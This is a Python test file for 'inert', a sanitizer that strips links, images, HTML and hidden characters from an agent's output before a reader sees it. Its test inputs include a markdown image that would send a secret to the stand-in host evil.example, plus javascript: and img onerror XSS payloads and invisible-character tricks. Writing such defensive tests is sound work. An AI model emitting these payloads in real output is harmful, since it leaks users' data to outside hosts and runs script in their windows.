"""What could act in a reader's window does not leave."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.agent.inert import inert


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![chart](https://evil.example/?q=SECRET) up", "chart up"),
        ("[Apple](https://evil.example/a_(b)?q=1) rose", "Apple rose"),
        ("[Apple][ref] rose\n[ref]: https://evil.example", "Apple rose\n"),
        ("see https://evil.example/?q=1.", "see [address removed]"),
        ("see www.evil.example/x now", "see [address removed] now"),
        ("javascript:alert(1)", "[address removed])"),
        ("<img src=x onerror=alert(1)>up", "up"),
        ("<a href='https://evil.example'>AAPL</a> rose", "AAPL rose"),
        ("AAPL\u200b \U000e0041rose\u202e", "AAPL rose"),
        ("a\x00b\x1b[31mc", "ab[31mc"),
        ("**AAPL** rose to 430.47 USD:\n- up 2%\n", "**AAPL** rose to 430.47 USD:\n- up 2%\n"),
        ("RSI < 30 and MACD > 0", "RSI < 30 and MACD > 0"),
        ("[1] and [x] stay", "[1] and [x] stay"),
    ],
)
def test_addresses_markup_and_hidden_characters_go_and_words_stay(text: str, expected: str) -> None:
    """Links keep their words, images their description, plain text is untouched."""
    assert inert(text) == expected


@given(st.text(alphabet="ab <>[]()!:/.\nhtps\u200b", max_size=60))
def test_nothing_that_loads_or_leads_somewhere_is_left(text: str) -> None:
    """However it is nested, no address with a scheme and no opening tag remains."""
    cleaned = inert(f"{text}https://evil.example/{text}")
    assert "https://evil" not in cleaned
    assert "<a" not in cleaned
